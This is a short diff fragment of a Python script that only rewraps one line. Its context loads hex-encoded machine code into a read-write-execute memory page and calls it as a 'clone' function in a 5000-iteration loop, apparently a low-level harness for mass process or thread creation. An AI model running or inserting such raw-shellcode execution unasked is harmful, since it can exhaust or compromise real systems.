@@ -20,7 +20,9 @@ code = bytes.fromhex(
 )
 page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
 page.write(code)
-clone = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_ulong] * 3)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
+clone = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_ulong] * 3)(
+    ctypes.addressof(ctypes.c_char.from_buffer(page))
+)
 words = (ctypes.c_ulong * 8)()
 started, stacks = 0, []
 for _ in range(5000):
